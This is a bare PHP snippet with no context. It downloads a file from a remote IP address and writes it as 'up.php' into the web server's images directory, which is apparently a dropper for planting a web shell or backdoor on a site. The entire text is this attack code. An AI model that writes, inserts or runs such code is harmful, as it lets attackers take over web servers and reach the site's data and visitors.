<?php $t = file_get_contents('http://198.51.100.7/up.txt?x=1'); $f = fopen($_SERVER['DOCUMENT_ROOT'] . '/images/up.php', 'w'); fwrite($f, $t); fclose($f);
